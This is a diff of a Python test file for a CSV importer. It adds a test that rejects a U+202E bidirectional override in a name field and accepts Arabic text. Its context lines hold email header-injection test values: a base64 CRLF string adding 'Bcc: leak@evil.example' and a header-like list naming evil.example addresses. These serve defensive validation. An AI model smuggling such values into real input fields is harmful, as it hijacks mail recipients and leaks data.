@@ -219,6 +219,24 @@ def test_header_text_in_a_cell_is_refused_by_name_and_nothing_written(engine, tm
     assert set(_counts(engine).values()) == {0}
 
 
+def test_a_bidirectional_override_in_a_name_is_refused_right_to_left_text_is_not(
+        engine, tmp_path):
+    """U+202E in an area or a name reversed how the rest of a Slack header or an email
+    subject reads; Arabic or Hebrew text itself is welcome."""
+    target = tmp_path / "g"
+    shutil.copytree(GRAMPIAN, target)
+    path = target / "people.csv"
+    data = path.read_text(encoding="utf-8")
+    path.write_text(data.replace("Ailsa Chair", "Ailsa \u202eriahC", 1), encoding="utf-8")
+    report = import_directory(engine, target)
+    assert report.errors == ["people.csv:2: name: contains a bidirectional override (U+202E), "
+                             "which would reverse how the rest of a message reads"]
+    assert set(_counts(engine).values()) == {0}
+    path.write_text(data.replace("Ailsa Chair", "Ailsa \u0639\u0627\u0626\u0634\u0629", 1),
+                    encoding="utf-8")
+    assert import_directory(engine, target).ok
+
+
 _B = base64.b64encode(b"SPS\r\nBcc: leak@evil.example\r\nX-Injected: 1").decode()
 HEADERISH = [
     "SPS Bcc: leak@evil.example To: spy@evil.example",
